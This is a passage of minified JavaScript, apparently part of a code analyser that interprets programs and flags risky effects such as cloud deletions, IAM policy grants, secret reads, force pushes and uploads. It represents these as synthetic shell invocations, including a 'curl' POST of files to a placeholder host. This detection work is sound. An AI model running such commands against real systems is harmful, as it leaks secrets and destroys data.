r=I]=v.items(s);return v.firstText(e).startsWith("H")?bt(r,Zs.hex):/^[cCU]/.test(v.firstText(e))?dl(v.items(s)):void 0},slice:(t,[e,s,r])=>e&&So(e,[s,r]),at:(t,[
e,s])=>s?.kind==="list"?s.items.at(Number(v.firstText(e))):void 0,"any-of":(t,[e=I])=>w.merged(v.flat([e])),lines:(t,[e])=>e?.kind==="list"?w.joined(e.items,`
`):e,invoke:({invoke:t},[e,s=I])=>e&&t(e,v.elements(s)),message:({invoke:t},[e,s,r=I])=>{let[n,o]=e?.kind==="name"?[`${e.path}.`,e.self]:["",e];return s?.kind===
"text"&&O.known(s)?t(w.name(n+v.firstText(s),o),v.elements(r)):void 0}};var rv={...ll,...un,...yp,...To},yt=({args:t,named:e},s)=>e.get(s)??t.find(r=>r.kind==="map")?.entries.get(s),Io=(t,e)=>/^(?:true|All)$/i.test(v.word(yt(t,e)));
function nv(t,e,s){let r=e===void 0?void 0:t.args[e];return[...r===void 0||r.kind==="map"?s.map(o=>yt(t,o)):[],r].find(o=>o!==void 0)}function ov(t){let[,e,s,r,
n]=/^\$(self|owner|origin|all|last|\d*)(\.\.)?((?::\w+)*)(?:=(.+))?$/.exec(t)??[];if(e===void 0)return()=>w.text(t);if(e==="self")return({receiver:a})=>a;if(e===
"owner")return a=>w.text(Po(a));if(e==="origin")return({receiver:a})=>a?.kind==="made"?a.args[0]:void 0;if(e==="all")return({args:a})=>w.list(v.flat(a));if(e===
"last")return({args:a})=>a.at(-1);let o=e===""?void 0:Number(e);if(s)return({args:a})=>w.list(a.slice(o));let i=r.split(":").slice(1);return a=>nv(a,o,i)??(n===
void 0?void 0:w.text(n))}var Po=({receiver:t})=>t?.kind==="name"?t.path:"\uFFFC",iv={none:({args:t,named:e})=>t.length===0&&e.size===0,args:({args:t},e)=>t.length>=
Number(e),arg:({args:[t]},e)=>t?.kind===e,says:({args:t,named:e},s)=>v.parts([...t,...e.values()]).some(({value:r})=>new RegExp(s).test(v.word(r))),owner:(t,e)=>new RegExp(
e).test(Po(t)),gets:({args:t},e)=>v.parts(t).some(({value:s})=>O.made(s,e)),option:(t,e="")=>{let[s="",r]=e.split("="),n=yt(t,s);return r===void 0?Ao(n):v.word(
n)===r||r==="{}"&&wp(n)},kept:t=>!/cache|log|trac|schedul|queue|set|map|mock|fake/i.test(Po(t))&&!t.collector.isMocked,lasting:({receiver:t})=>O.made(t,"store")&&
t.args.flatMap(v.texts).some(e=>!e.startsWith("\uFFFC")&&!X(e,"passing-databases")),unset:({collector:t},e)=>!Object.hasOwn(t.input.environment,e),chosen:({collector:t})=>t.
choosesProcesses,sign:({collector:t},e)=>t.signs.has(e),stored:({collector:t})=>t.signs.has("key-store")&&!t.isMocked,"no-sign":({collector:t},e)=>!t.signs.has(
e),empty:({args:[t]})=>t===void 0||wp(t),git:t=>O.made(G.root(t.receiver),"git")||kp(t,"name","git"),real:t=>!O.mock(yt(t,"fs"))&&!v.word(yt(t,"fs")).startsWith(
"memfs"),database:t=>/^db\b|collection|\bdb$/i.test(Po(t))},wp=t=>t?.kind==="map"&&t.entries.size===0||t?.kind==="list"&&t.items.length===0,kp=({receiver:t},e,s)=>t?.
kind===e&&(s===void 0||s===(t.kind==="made"?t.by:v.lastName(v.word(t)))),av=t=>e=>{let s=o=>o.kind==="function"||O.made(o,"message"),r=t({...e,args:e.args.filter(
o=>!s(o))}),n=e.args.find(s);return r&&n&&e.invoke(n,n.kind==="function"?[r,r]:[r]),r};function Ro(t){let e=t.split(" | ");if(e.length>1){let i=e.map(Ro);return a=>i.
reduce((l,c)=>l??c(a),void 0)}let[s="",...r]=t.split(" ");if(s==="calls-back")return av(Ro(r.join(" ")));if(s.startsWith("if-")){let[i,a]=s.slice(3).split(":"),
l=Ro(r.join(" ")),c=iv[i]??(d=>kp(d,i,a));return d=>c(d,a)?l(d):void 0}let n=r.map(ov),o=Object.hasOwn(ll,s);return i=>{let a=n.map(c=>c(i)),l=rv[s](i,a,r);return o?
I:l}}var lv=Se(Ro),pn=t=>new Map(Object.entries(t).map(([e,s])=>[e,r=>lv(s)(r)])),vp=Se(t=>{let{sharedCalls:e}=S,{unknown:s=[],texts:r={},aliases:n={},sdks:o=[],
lexer:i,...a}=S.languages[t],l=new Map(Object.entries(n)),c=a.rewrites.map(([d,u])=>[new RegExp(d,"g"),u]);return{...a,sharedFunctions:pn(e.functions),sharedMethods:pn(
e.methods),sharedDeeds:pn(e.deeds),sdks:o,lexer:{...i,heredoc:i.heredoc===void 0?void 0:new RegExp(i.heredoc,"y")},functions:pn(a.functions),methods:pn(a.methods),
constants:new Map([...s.map(d=>[d,I]),...Object.entries(r).map(([d,u])=>[d,w.text(u)])]),canonicalize:d=>{let u=a.case_sensitive===!1?d.toLowerCase():d,p=c.reduce(
(f,[m,h])=>f.replace(m,h),u);return l.get(p)??p}}});var xp={"(":")","[":"]","{":"}"};function $p(t){let e=[];for(let[s,r]of t.entries()){let n=e.at(-1);n&&L(r,"for")&&(n.loop??=s),r.kind==="mark"&&(Object.hasOwn(
xp,r.text)?(r.close=t.length,e.push(r)):n&&xp[n.text]===r.text&&(n.close=s,e.pop()))}return t}var P=(t,...e)=>t?.kind==="mark"&&e.includes(t.text);function te(t,e,s=t.
length){let r=t[e];return r?.kind==="mark"&&r.close!==void 0?Math.min(r.close,s):e}function ae(t,e,s,r,n=!0){let o=e;for(;o<s&&!P(t[o],...r)&&!(n&&t[o]?.kind===
"newline");)o=te(t,o,s)+1;return Math.min(o,s)}function Ar(t,e,s,r){let n=t.findLast((a,l)=>l<=e&&a.kind==="newline"),o=n?.kind==="newline"?n.indent:0,i=ae(t,s,
r,[":"]);for(let a=i;a<r;a++){let l=t[a],c=t[a+1];if(l.kind==="newline"&&l.indent<=o&&c&&c.kind!=="newline")return a}return r}var L=(t,...e)=>t?.kind==="name"&&
(e.length===0||e.includes(t.text));var{codeWords:cv,forms:Tr}=S,dv=12,qo=16e3;function Pr(t,e){return _p(t,0,e,0).tokens}function _p(t,e,s,r){let n=[],o=e,i=0,a=0,l=0,c=r<dv?d=>_p(t,d,s,r+1):void 0;
for(;o<t.length&&n.length<qo;){if(t[o]===`
`){o=Math.max(o+1,l),l=0;let m=Xe(/[ \t]*/y,t,o)?.[0].length??0;s.lines!=="none"&&i===0&&(s.lines==="statements"||a===0)&&n.push({kind:"newline",indent:m});continue}
let d=uv(t,o,s);if(d!==void 0){o=d;continue}let u={lexer:s,value:mv(n.at(-1)),within:c,heredocEnd:l},p=ip(t,o,u)??pv(t,o,s),{token:f}=p;if(P(f,"(","[")&&(i+=1),
P(f,")","]")&&(i=Math.max(0,i-1)),P(f,"{")&&(a+=1),P(f,"}")){if(a===0&&r>0)break;a=Math.max(0,a-1)}n.push(f),o=p.end,l=p.heredocEnd??l}return{tokens:$p(s.lines===
"statements"?hv(n):n),end:o}}function uv(t,e,{comment:s,block_comment:r}){let n=Xe(Tr.code_space,t,e);if(n)return e+n[0].length;let o=s.some(a=>t.startsWith(a,e));
if(!o&&!(r&&t.startsWith(r[0],e)))return;let i=o?t.indexOf(`
`,e):t.indexOf(r[1],e+2);return i<0?t.length:i+(o?0:2)}function pv(t,e,s){let r=fv(t,e,s);if(r!==void 0)return{token:{kind:"name",text:r},end:e+r.length};let n=Xe(
Tr.code_number,t,e)?.[0];if(n!==void 0){let a=n.replaceAll("_","");return{token:{kind:"number",number:/^0[0-7]+$/.test(a)?Number.parseInt(a,8):Number(a)},end:e+
n.length}}let o=Xe(Tr.code_mark,t,e)?.[0]??t[e],i=o==="::"&&s.lines==="indent"?":":o;return{token:{kind:"mark",text:i},end:e+i.length}}function fv(t,e,s){let r=e;
for(;r-e<2&&s.sigils.includes(t[r]??" ");)r+=1;let n=Xe(Tr.code_name,t,r)?.[0];if(n!==void 0){let o=r+n.length,i=/[?!]$/.test(n)&&(s.interpolation!=="hash"||t[o]===
"=")?o-1:o;return t.slice(e,i)}if(r!==e)return s.interpolation==="dollar"&&/[_!@0&\d]/.test(t[r]??"")?t.slice(e,r+1):t[e]==="$"&&s.lines!=="none"?"$":void 0}function mv(t){
return!t||t.kind==="newline"?!0:t.kind==="mark"?![")","]","}"].includes(t.text):t.kind==="name"&&cv.before_value.has(t.text)}function hv(t){return t.filter((e,s)=>{
if(e.kind!=="newline")return!0;let r=t[s+1],n=t[s-1];return n?.kind==="newline"||r?.kind==="mark"&&Tr.continued_mark.test(r.text)?!1:!(n?.kind==="mark"&&Tr.continuing_mark.
test(n.text))})}var gv=200,bv=/^(?:self|cls|this|[A-Z]\w*)$/,No=(...t)=>({args:t,named:new Map}),Oo=class t{constructor(e,s,r,n,o){this.language=e;this.collector=s;this.scope=r;
this.tokens=n;this.functions=o;this.end=n.length,this.body={tokens:n,from:0,to:n.length}}language;collector;scope;tokens;functions;at=0;end;depth=0;definitions=[];returnValues=[];body;activeFunctions=new Set;with(e){
return Object.assign(Object.create(t.prototype),this,e)}nest(e,s){return this.nestIn(this.tokens,e,s)}nestIn(e,s=0,r=e.length){return this.with({tokens:e,at:s,end:Math.
min(r,e.length),depth:this.depth+1})}get token(){return this.at<this.end?this.tokens[this.at]:void 0}take(...e){let{token:s}=this,r=(s?.kind==="mark"||s?.kind===
"name")&&e.includes(s.text);return r&&(this.at+=1),r}evaluate(e){return this.functions.evaluate(this,e)}call(e,...s){return this.apply(e,No(...s))}apply(e,s){return this.
functions.call(this,e,s)}interpret(){return this.functions.interpret(this)}lookUp(e){let{scope:s,language:r}=this,n=s.get(e)??s.get(e.replace("$","%"))??s.get(e.
replace("$","@"));if(n)return n;let o=r.canonicalize(e);return(o===e?void 0:s.get(o))??r.constants.get(o)??w.name(e)}getMember(e,s){if(e.kind==="made"&&e.by==="\
proxy")return wv(this,e,s);if(e.kind==="made"&&e.by==="instance"&&!this.scope.get(s)){let n=this.scope.get("__getattr__")??this.scope.get("method_missing");if(n)
return this.call(n,w.text(s))}if(O.made(e,"spy","patcher")&&/^(?:wrappedMethod|temp_original)$/.test(s))return w.name(v.firstText(e.args[0]));if(e.kind==="map")
return e.entries.get(s)??yv(e,s)??w.name(s,e);if(e.kind==="choice")return w.merged(e.values.map(n=>this.getMember(n,s)));if(e.kind==="text"&&(e.glob||e.of.some(
n=>n.includes(ns)))&&/^(?:name|path)$/.test(s))return e;if(e.kind==="name"&&!e.self){let n=`${e.path}.${s}`;if(n.length>gv)return I;let o=bv.test(e.path)&&!this.
scope.get(n)?this.scope.get(s):void 0;return o&&o.kind!=="function"?o:this.collector.imitations.get(n)??this.lookUp(n)}return O.made(e,"git")&&/^(?:git|common)_dir$/.
test(s)&&e.args[0]?w.joined([e.args[0],w.text("/.git")]):O.made(e,"written")&&s==="name"?e.args[0]??I:O.made(e,"dirent")&&/^(?:name|path|parentPath)$/.test(s)?e.
args[s==="name"?1:0]??I:e.kind==="text"&&s==="parent"?pl(e):e.kind==="text"&&s==="pathname"?bt(e,n=>n.replace(/^\w+:\/\/[^/]*/,"")):e.kind==="content"&&["text",
"content","stdout","body","data"].includes(s)?e:w.name(s,e)}};function yv({entries:t},e){return/^[A-Z][A-Z\d_]*$/.test(e)&&[...t.values()].some(({kind:r})=>r===
"content")?w.variable(e):void 0}function wv(t,{args:[e]},s){let r=e?.kind==="map"?e.entries.get("get"):void 0;return r?t.call(r,I,w.text(s)):I}var is=({sharedDeeds:t},e)=>t.
get(v.lastName(e).toLowerCase());var{codeWords:At}=S,Lo=t=>t.kind==="name"?X(t.path,"harmless-names"):/^(?:text|number|list|map)$/.test(t.kind)||O.made(t,"error"),Do=({language:t},e)=>Lo(e)||O.
mock(e)||e.kind==="function"||O.made(e,"bound","spy")||e.kind==="name"&&!e.self&&t.functions.has(t.canonicalize(e.path));function Sp(t,e,s){let{collector:r}=t,n=new Map(
r.imitations);n.delete(e),r.step(n.size>>4);let o=Do(t,s)&&Tp(t)&&!r.signs.has("reaches-around");r.imitations.has(e)&&jt(t,n),o&&(r.imitations=new Map(r.imitations).
set(e,s))}function fn(t,e,s,r){return O.mock(s)?Ep(t,s,[e],v.firstText(r)):O.known(r??s)?s.kind==="text"?Sp(t,v.firstText(s),e):s.kind==="name"&&!s.self&&Sp(t,`${s.
path}.${v.firstText(r)}`,e):jt(t),e}function jt(t,e=new Map){let{collector:s}=t,r=new Map([...e].filter(([o,i])=>s.imitations.get(o)===i)),n=r.size<s.imitations.
size;if(s.imitations=r,!(!n||s.isRepeating)){s.isRepeating=!0;for(let o of[...s.postponed])o();s.isRepeating=!1}}function Rr(t,e,s){let r=t.with({body:void 0}),
n=()=>{let{imitations:o}=r.collector,i=r.call(e,...s);return jt(r,o),i};return mn(r,n),n()}function mn(t,e,s){let{collector:r}=t,{imitations:n,isRepeating:o,postponed:i}=r;
n.size>0&&!o&&(!s||s.later||fl(t,s,...At.suspending))&&i.push(e)}function fl({collector:t},{tokens:e,from:s,to:r},...n){return!t.step(r-s>>5)||e.slice(s,r).some(
o=>L(o,...n))}function jo(t,e){let{collector:s,language:r}=t,o=e.kind==="name"&&At.imitating.has(r.canonicalize(e.path))?t.call(e):e;if(!O.made(o,"patcher")||s.
signs.has("reaches-around"))return e;let[i,a=o]=o.args;return s.imitations=new Map(s.imitations).set(v.firstText(i),a),a}function Ep(t,e,s,r=""){let n=G.root(e),
o=s.flatMap(a=>v.parts([a])).map(({value:a})=>a);n.args.push(...o.filter(a=>!Lo(a)&&G.root(a)!==n)),/side_effect|wraps|callsFake|Implementation|configure|attach/.
test(r)&&!o.every(a=>Do(t,a))&&jt(t)}function kv(t,e,s){let r=G.root(e),n=e.kind==="name"?e.path:"";if(At.mock_ends.has(n)&&jt(t),At.mock_setters.has(n)&&Ep(t,r,
[...s.args,...s.named.values()],n),At.mock_setters.has(n)||/^assert_/.test(n)||!t.collector.step())return r;let o=r.args.flatMap(i=>{if(O.mock(i)||Lo(i))return[
i];let l=i.kind==="function"||i.kind==="name"?t.apply(i,s):i;return i.kind==="function"||e===r?[l]:[l,t.apply(Ap(t,e,i),s)]});return w.choice([r,...o.filter(i=>!Lo(
i))])}var Ap=(t,e,s)=>e.kind==="name"?t.getMember(e.self?Ap(t,e.self,s):s,e.path):s,Cp=t=>L(t,...At.continuing),vv=t=>L(t,...At.conditional)||P(t,...At.conditional);
function Tp(t){let{tokens:e,at:s,body:r,language:n}=t;if(!r||r.tokens!==e||n.blocks==="end")return!1;let o=n.blocks==="indent",i=s-1;t.collector.step(i-r.from>>
3);let a=r.from,l=a;for(;l<=i;){let f=te(e,l);if(f>i)return!1;let[m,h,g]=[e[l-1],e[l],e[f+1]],y=h?.kind==="newline"&&(o||!(P(m,")")||Cp(m))),x=!o&&P(h,"{")&&L(g)&&
!Cp(g);l=f+1,(y||x||!o&&P(h,";"))&&(a=l)}let c=e[a-1],d=e[ae(e,r.from,e.length,[":"])+1],u=d?.kind==="newline"&&r.caller?d.indent:0;if(c?.kind==="newline"&&o&&c.
indent!==u)return!1;let p=f=>f>i&&(e[f].kind==="newline"||P(e[f],";"));for(let f=a;f<e.length&&!p(f);f=te(e,f)+1)if(vv(e[f]))return!1;return r.caller?r.later||fl(
t,{...r,to:i},...At.exiting)?!1:!fl(t,r,"yield")&&(r.caller==="any"||Tp(r.caller)):!0}function Pp(t,e,s){if(O.mock(e))return kv(t,e,s);if(e.kind!=="name")return;
let{collector:r}=t,{path:n,self:o}=e,i=v.lastName(n),a=At.mock_setters.has(i)&&!O.made(G.root(o),"spy");if(r.imitations.size>0&&(a||At.mock_ends.has(i))&&jt(t),
O.mock(s.args[0])&&is(t.language,n))return s.args[0];let c=/^[A-Z]/.test(i)&&!o&&r.isLibrary(n)?["transport","connection","session"].map(d=>yt(s,d)):[];return(o?
void 0:r.imitations.get(`class ${n.replace(/\.from$/,"")}`))??c.find(O.mock)}var{codeWords:Ip}=S,xv=48,$v=64;function ml(t,e){let{tokens:s,at:r,end:n,language:o}=t,i=[";","=>",")","}",...e?[]:[","]],a=r;for(let l=0;a<n&&l<xv;l++){let c=s[a];
if(P(c,...Ip.assigning))return a;let d=o.blocks==="end"&&L(c,"do");if(c.kind==="newline"||d||P(c,...i))return;a=te(s,a)+1}}function Tt(t,e,s,r){let{tokens:n,scope:o}=t,
i=e;for(;i<s&&L(n[i],...Ip.declaring);)i+=1;let a=n[i];if(a?.kind==="mark"&&a.close!==void 0)(a.text==="{"?Sv:Rp)(t,i+1,Math.min(a.close,s),r);else if(ae(n,i,s,
[","],!1)<s)Rp(t,i,s,r);else{if(_v(t,i,s,r))return;let l="";for(let u=i;u<s;u++){let p=n[u];if(p.kind==="name")l+=l!==""&&!l.endsWith(".")?"":p.text;else if(P(p,
".","->","::","?."))l+=".";else break}if(l==="")return;let c=O.mock(r)||O.made(r,"git")?o.get(l):void 0,d=l.startsWith("@")&&r.kind==="text"&&!r.glob;o.set(l,c?
w.choice([c,r]):d?w.list([r]):r)}}function _v(t,e,s,r){let{tokens:n,language:o}=t,[i,a]=n.slice(e,e+2);if(i?.kind!=="name")return!1;let l=t.lookUp(i.text);if(P(
a,"[")&&e+1<s){let m=te(n,e+1),h=t.nest(e+2,m).evaluate();if(l.kind==="map"&&O.known(h)){let g=l.entries.get(v.firstText(h));l.entries.set(v.firstText(h),g?w.merged(
[g,r]):r)}else l.kind==="name"&&m===s-1&&fn(t,r,l,h);return!0}let c=n[s-1],d=P(a,"(")?i.text==="require":l.kind==="name"&&!l.self;if(c?.kind!=="name"||!P(n[s-2],
...o.member_operators)||!O.mock(l)&&!d)return!1;let u=t.nest(e,s-2).evaluate(),p=u.kind==="name"&&!u.self?o.canonicalize(`${u.path}.${c.text}`):"",f=r.kind==="f\
unction"&&o.sdks.some(m=>p.startsWith(m));return!O.mock(u)&&!f&&!o.functions.has(p)?!1:(fn(t,r,u,w.text(c.text)),!0)}function Rp(t,e,s,r){let n=r.kind==="list"?
r.items:[],o=e,i=0;for(let a=e;a<=s;a++)if(a===s||P(t.tokens[a],",")){let l=r.kind==="content"?r:n[i]??G.client(r)??I;a>o&&Tt(t,o,a,l),o=a+1,i+=1}else a=te(t.tokens,
a,s-1)}function Sv(t,e,s,r){for(let n=e;n<s;n++){let o=t.tokens[n];if(o.kind!=="name")continue;let i=P(t.tokens[n+1],":","=>")?t.tokens[n+2]:void 0;t.scope.set(
i?.kind==="name"?i.text:o.text,t.getMember(r,o.text)),n=ae(t.tokens,n,s,[","],!1)}}var er=t=>w.merged(v.elements(t).slice(0,$v));var{codeWords:vs}=S,qp="https://sdk.example";function Np(t,e,s){let{collector:r,language:n,tokens:o,at:i}=t,a=n.canonicalize(e.path),l=v.lastName(a),c=G.client(
e.self),d=O.made(c,"sdk")?c:void 0;if(e.self?.kind==="name"&&/^(?:call|apply|bind)$/.test(l))return;let u=s.args.some($=>v.firstText($)===":memory:");if(u||!d&&
(e.self||!n.sdks.some($=>a.startsWith($)))){let $=O.mock(s.args[0])||L(o[i+1],"toString","toSQL")||r.isMocked||r.isInMemory;!u&&!$&&Av(e,a,is(n,l)!==void 0)&&r.
addInvocation("cloud-sdk",[l]);return}let p=[...vs.endpoints].map($=>yt(s,$)).find($=>$),f=p?[w.text("--endpoint-url"),p]:d?.args??[],m=/instance|volume|snapshot|image|vpc|subnet|security_?group|key_?pair/i.
test(l)?Io(s,"DryRun"):/namespace|_node\b/i.test(l)&&["dry_run","dryRun"].some($=>Io(s,$));if(!d&&l.endsWith("Command"))return w.derived("sdk-command",w.text(m?
"":l));let h=s.args.flatMap($=>O.made($,"sdk-command")?v.texts($.args[0]):[]),g=m||r.imitates("services")||r.isEmulated,y=v.lastName(v.word(e.self??w.name(e.path.
replace(/\.\w+$/,"")))),x=[...s.args,...s.named.values()];!g&&(d||l==="request")&&Dp(v.parts(x))&&r.addInvocation("cloud-sdk",["DELETE",...f]);for(let $ of g?[]:
[v.lastName(e.path),...h])(jp($)||$==="cancel"&&/^subscriptions?$/i.test(y))&&r.addInvocation("cloud-sdk",[$,...f]);if(d&&!g&&[l,...h].some($=>X($,"granting-met\
hods"))&&r.addInvocation("aws",["iam","attach-user-policy",...f]),d&&[l,...h].some($=>X($.replace(/Command$/,""),"secret-methods")))return w.content([r.createInvocation(
"aws",["secretsmanager","get-secret-value"])]);/^update_?ref$/i.test(l)&&Io(s,"force")&&r.addInvocation("git",["push","--force"]);let _=d&&X(l,"sending-methods")?
G.content(x):void 0;_&&_.from.length>0&&r.addInvocation("curl",["-X","POST","-d","@-",qp],r.createInput(_));let E=_?.files??(d&&/^upload/i.test(l)?v.texts(s.args[0]):
[]);for(let $ of E)r.addInvocation("curl",["-X","POST","-d",`@${$}`,qp]);return w.derived("sdk",...f)}function Lp(t,e,s){let{collector:r}=t,n=G.client(e.self),o=v.
parts([...s.args,{kind:"map",entries:s.named}]);if(!n){let l=e.self?void 0:Cv(t,e.path,o);return l===void 0?void 0:w.derived(l)}let i=v.lastName(e.path),a=i==="\
destroy"&&o.length===0;return n.by==="service"&&!a&&(jp(i)||Dp(o))&&r.addInvocation("cloud-sdk",[i]),n.by==="data"&&X(i,"emptying-methods")&&!r.isMocked&&r.addInvocation(
"sql",["flush",i]),n}var Dp=t=>t.some(({value:e})=>e.kind==="text"&&e.of.some(s=>X(s,"deleting-requests")));function Cv({collector:t,language:e},s,r){if(X(s,"ow\
n-data-modules")&&!t.isMocked)return"data";if(!(e.blocks==="end"?/^[A-Z]/.test(s):t.isLibrary(s)))return;let o=r.map(({value:d})=>G.client(d)).find(d=>d);if(o)return o.
by==="data"?"data":"service";let i=!s.includes(".")||X(v.lastName(s),"client-makers"),a=r.filter(({key:d})=>d===""||X(d,"place-options")),l=a.flatMap(({value:d})=>d.
kind==="text"?d.of:[]);if(!i)return;if([...vs.data_signs].some(d=>t.signs.has(d))){let u=r.some(({key:m,value:h})=>m==="type"&&v.firstText(h)==="sqljs")||l.some(
m=>X(m,"passing-data")),p=a.filter(({value:m})=>m.kind!=="text"||m.of.some(Ev)),f=p.every(({value:m})=>v.texts(m).every(h=>X(h,"passing-data")));return(u||p.length>
0)&&t.openedDatabases.push(u&&f),u?void 0:"data"}return l.some(d=>X(d,"own-addresses"))?void 0:r.some(({key:d,value:u})=>X(d,"service-options")||v.texts(u).some(
p=>X(p,"service-addresses"))||X(u.kind==="content"&&u.variable||"","service-variables"))?"service":void 0}var Ev=t=>/[/:]|\.(?:db|sqlite3?)$/.test(t);function Av({
self:t,path:e},s,r){let n=v.lastName(s),o=t?.kind==="name"?t.path:s.slice(0,-n.length-1);if(t===void 0&&o===""||/^(?:this|self|(?:\w+\.)?indexedDB)\b/.test(o))return!1;
if(vs.remote_members.has(v.lastName(o).toLowerCase().replaceAll("_",""))&&Wo(n,!1))return!0;let a=v.lastName(e),l=t===void 0&&/^[A-Z]/.test(a),c=(r||l?void 0:Wo(
a,!1))??[];return c.length>0&&(c.every(Op)||Op(c.join("")))}var Op=t=>[t,`${t}s`,`${t}es`].some(e=>vs.remote.has(e)),jp=t=>Wo(t,!1)!==void 0||Wo(t,!0)?.some(e=>vs.
passing.has(e))===!1;function Wo(t,e){let r=t.replace(/([a-z])([A-Z])/g,"$1_$2").toLowerCase().split(/[_!?]+/),n=r.filter(a=>a!==""&&!vs.deletion_fillers.has(a)),
o=(a="")=>vs.deleting.has(a)||e&&vs.loosely_deleting.has(a);return!o(n[0])&&!o(n.at(-1))||r.some(a=>/^(?:from|tags?|labels?)$/.test(a))?void 0:n.filter(a=>!o(a))}var{codeWords:Mo,forms:hn}=S,Tv=60,Pv=40;function Pt(t,e,s){if(e.kind==="function"){let T=()=>Nv(t,e,s);return mn(t,T,e.definition),T()}if(e.kind==="content")return e;
if(e.kind==="text")return w.merged(v.texts(e).map(T=>Pt(t,w.name(T),s)));if(e.kind==="list"&&e.items.length>1)return Pt(t,e.items.at(-1),s);let r=Pp(t,e,s);if(r)
return r;if(e.kind==="made")return Rv(t,e,s);if(e.kind==="choice")return w.merged(e.values.map(T=>Pt(t,T,s)));if(e.kind!=="name")return gl(t,e,s);if(e.path.endsWith(
".bake")&&hn.program_call.test(e.path))return w.derived("bound",w.name(e.path.replace(/\.bake$/,"")),w.list(s.args));let[,n]=hn.program_call.exec(e.self?"":t.language.
canonicalize(e.path))??[];if(n&&t.language.blocks==="indent")return t.collector.runProgram([w.text(n),...s.args]);let[,o]=s.args.length>0&&Iv.exec(e.path)||[];if(o&&
!e.self)return t.call(w.name(o,s.args[0]),...s.args.slice(1));let i=Np(t,e,s);if(i)return hl(t,e,s,i);let a=Wp(t,e.path);if(X(a,"file-calls")&&t.collector.imitates(
"files"))return I;let l=t.language.functions.has(a),c=t.collector.source==="other"?hn.static_method:hn.own_method,[,d=""]=!l&&c.exec(e.path)||[],u=t.scope.get(e.
self?e.path:d);if(u?.kind==="function"&&!t.activeFunctions.has(u.definition))return Pt(t,u,s);let p={...s,collector:t.collector,evaluateCode:T=>Lv(t,T),getMember:(T,q)=>t.
getMember(T,q),invoke:(T,q)=>Rr(t,T,q),imitate:(T,q,A)=>fn(t,T,q,A),isFollowed:T=>Do(t,T)},{language:f}=t,m=t.collector.signs.has("links-repositories"),h=O.made(
e.self,"git")&&!m?e.self.args[0]:void 0;t.collector.enter(v.firstText(yt(s,"cwd")??yt(s,"chdir")??h));let g=v.lastName(a),y=(T,q=e.self)=>T?.({...p,receiver:q});
if(e.self)return y(f.methods.get(e.path)??f.methods.get(a))??y(f.sharedMethods.get(a))??y(is(f,a))??hl(t,e,s);let x=/^[A-Z]/.test(g)?void 0:is(f,a),_=a.includes(
".")?w.name(a.slice(0,-g.length-1)):void 0;return y(f.functions.get(a))??(_&&(y(f.methods.get(g),_)??y(x,_)))??y(f.sharedFunctions.get(g))??hl(t,e,s)}function hl(t,e,s,r){
let n=s.args.map(G.client).find(a=>a),o=r??Lp(t,e,s)??n,i=gl(t,e,s);return o&&i.kind!=="list"?o:i}function Rv(t,e,s){if(e.by==="data")return Pt(t,w.name("query",
e),s);if(G.client(e))return e;let[r=I,n]=e.args,o=e.by==="spy"?v.firstText(r):"";if(o!=="")return Pt(t,t.collector.imitations.get(o)??w.name(o),s);let[i=I,...a]=s.
args;if(e.by==="bound")return Pt(t,r,{...s,args:[...v.items(n),...s.args]});let l=e.by==="message"&&t.getMember(i,v.firstText(r));if(l)return Pt(t,l,{...s,args:[
...v.items(n),...a]});let c=e.by==="instance"?t.scope.get("__call__")??t.scope.get("__invoke"):void 0;return c?Pt(t,c,s):e.by==="rows"?e:gl(t,e,s)}var Iv=/^(?:str|bytes)\.([lr]?strip|lower|upper|r?split|splitlines|encode|decode)$/;
function Wp({language:t,scope:e},s){let r=t.canonicalize(s);if(s.includes(".")||t.functions.has(r))return r;let n=v.texts(e.get("*")).find(o=>t.functions.has(`${o}\
.${s}`));return n===void 0?r:`${n}.${s}`}function gl(t,e,{args:s,named:r}){let[n,o]=e.kind==="name"?[e.self,v.lastName(e.path)]:[void 0,""],i=[...s,...r.values()],
a=i.filter(c=>Ov(t,c));if(o.endsWith("?"))return I;let l=a.flatMap(c=>{if(n&&Mo.folding_methods.has(o))return[Rr(t,c,[s[1]??I,er(n)])];let d=n&&Mo.element_methods.
has(o)&&s[0]===c?n:void 0,u=d?v.elements(d):[],m=(o==="map"&&u.length>0&&u.every(O.known)||!d||O.uneven(u)?u:[er(d)]).map(_=>Rr(t,c,[_])),h=i.slice(i.indexOf(c)+
1),g=h.map(_=>_.kind==="list"?er(_):_);if(c.kind==="name"?h.length>0:O.made(c,"bound")&&!d||h.some(qv))return[...m,Rr(t,c,g)];let y=G.client(n)??n,x=y?.kind==="\
content"||y?.kind==="made"?[y,y]:[];return d||c.kind==="name"?m:[Rr(t,c,x)]});return n&&a.length===1&&o==="map"&&l.length>0?w.list(l):n&&a.length===1&&Mo.selecting_methods.
has(o)?n:!n&&Mo.selecting_functions.has(o)?s.at(-1)??I:G.content([...n?[G.secretContent(n)??n]:[],...i])??I}var qv=t=>t.kind==="list"||v.texts(t).some(e=>e.includes(
"/")),Ov=(t,e)=>e.kind==="function"||O.made(e,"bound","message")||e.kind==="name"&&t.language.functions.has(Wp(t,e.path));function Nv(t,{definition:e},s){if(e.called=
!0,t.depth>Tv||t.activeFunctions.has(e))return I;let{collector:r}=t,{imitations:n}=r,o=(e.mocks??[]).map(u=>jo(t,u)),a=[.../^(?:self|cls)$/.test(e.parameters[0]?.
name??"")?[I]:[],...s.args,...o],l=new Er(e.scope);for(let u of["@_","@ARGV"])t.language.bare_calls&&l.declare(u,w.list(a));let c=t.nestIn(e.tokens,e.from,e.to).
with({scope:l,returnValues:[],body:{...e,caller:t.body?t:"any"},activeFunctions:new Set([...t.activeFunctions,e])});for(let[u,{name:p,pattern:f,rest:m,usual:h,field:g}]of e.
parameters.entries()){if(p==="self")continue;let x=p==="monkeypatch"&&/^test/.test(e.name??"")?w.derived(p):I,_=()=>h===void 0?x:c.with({at:h,end:c.tokens.length}).
evaluate(),E=s.named.get(p)??a[u]??_();f!==void 0?Tt(c,f,te(c.tokens,f)+1,E):m==="**"?l.declare(p,{kind:"map",entries:s.named}):m===void 0?l.declare(p,E):l.declare(
p,w.list(a.length>u?a.slice(u):[I])),g&&l.set(p.startsWith("$")?`$this.${p.slice(1)}`:`this.${p}`,E)}let d=c.interpret();return o.length>0&&jt(t,n),e.expression?
d:hn.class_name.test(e.name??"")&&c.returnValues.length===0?w.derived("instance"):w.merged(t.language.bare_calls?[...c.returnValues,d]:c.returnValues)}function Lv(t,e){
let s=e&&G.content([e]),{collector:r}=t;if(s){let{program:i}=t.language;return s.from.length===0&&s.files.length>0?r.addInvocation(i,s.files):r.addInvocation(i,
